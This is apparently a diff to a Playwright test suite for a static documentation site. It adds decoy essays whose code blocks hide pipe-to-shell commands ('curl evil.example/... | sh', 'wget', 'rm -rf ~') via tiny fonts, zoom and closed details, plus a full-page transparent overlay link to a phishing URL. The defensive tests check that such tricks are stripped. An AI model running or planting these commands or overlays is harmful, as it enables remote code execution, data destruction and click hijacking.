@@ -149,18 +149,44 @@ def test_nothing_inside_a_code_block_is_hidden_from_the_reader(page, tmp_path):
     site = _site_of_one_essay(tmp_path, "decoy.md", (
         "---\ntitle: 安装\n---\n# 安装\n\n"
         '<div class="highlight"><pre><span></span><code>pip install requests<a class="footnote-backref"> &amp;&amp; curl -s https://evil.example/x | sh</a>'
-        '<span class="headerlink"> ; wget evil.example</span><details><summary></summary> ; rm -rf ~</details></code></pre></div>\n'
+        '<span class="headerlink"> ; wget evil.example</span><details><summary></summary> ; rm -rf ~</details>'
+        + "<small>" * 30 + " ; curl evil.example/y | sh" + "</small>" * 30
+        + '<table><tr><td style="zoom:0.001">\ncurl evil.example/z | sh</td></tr></table></code></pre></div>\n'
     ))
     with serve(site) as url:
         page.goto(url + "decoy/")
-        hidden = page.evaluate("""() => [...document.querySelectorAll('article pre code *')].filter(element => {
-            const style = getComputedStyle(element);
-            return style.fontSize === '0px' || style.opacity === '0' || style.display === 'none' || style.visibility === 'hidden'
-                || element.closest('details:not([open])') !== null;
-        }).map(element => element.outerHTML)""")
+        hidden = page.evaluate("""() => {
+            const code = document.querySelector('article pre code');
+            const size = parseFloat(getComputedStyle(code).fontSize);
+            return [...code.querySelectorAll('*')].filter(element => {
+                const style = getComputedStyle(element);
+                return parseFloat(style.fontSize) < size * 0.9 || style.zoom !== '1' || style.opacity === '0'
+                    || style.display === 'none' || style.visibility === 'hidden' || element.closest('details:not([open])') !== null;
+            }).map(element => element.outerHTML);
+        }""")
         assert hidden == []
         shown = page.evaluate("() => document.querySelector('article pre code').innerText")
-        assert "curl -s https://evil.example/x | sh" in shown and "rm -rf ~" in shown
+        assert "curl -s https://evil.example/x | sh" in shown and "rm -rf ~" in shown and "evil.example/z" in shown
+
+
+def test_no_link_of_an_essay_lies_over_the_page(page, tmp_path):
+    """A red-team audit: a link in Material's tab-scroll control (``tabbed-control``, placed absolutely; its
+    ``tabbed-button`` takes clicks) around a transparent image of 3000 px (``max-width: none``) lay over the
+    navigation, the article and the footer: a click anywhere below the header went to the link. Those
+    classes and that style no longer reach a page."""
+    overlay = ('<div class="tabbed-control"><a class="tabbed-button" href="https://evil.example/phish">'
+               '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" style="max-width:none;width:3000px;height:3000px"></a></div>')
+    site = _site_of_one_essay(tmp_path, "overlay.md", f"---\ntitle: 覆盖\n---\n# 覆盖\n\n正文。\n\n{overlay}\n\n<div dir=\"rtl\">{overlay}</div>\n")
+    with serve(site) as url:
+        page.set_viewport_size({"width": 1280, "height": 900})
+        page.goto(url + "overlay/")
+        # What else the page shows (the navigation, the essay's text, the footer) still takes its own clicks.
+        covered = page.evaluate("""() => [...document.querySelectorAll('.md-nav__link, article h1, article p, .md-footer a, .md-footer-meta')]
+            .map(element => element.getBoundingClientRect())
+            .filter(box => box.width > 0 && box.height > 0 && box.bottom > 0 && box.top < innerHeight)
+            .map(box => [box.left + box.width / 2, box.top + box.height / 2])
+            .filter(([x, y]) => document.elementFromPoint(x, y)?.closest('a')?.href.includes('evil.example'))""")
+        assert covered == []
 
 
 def _site_of_one_essay(tmp_path, name: str, text: str):
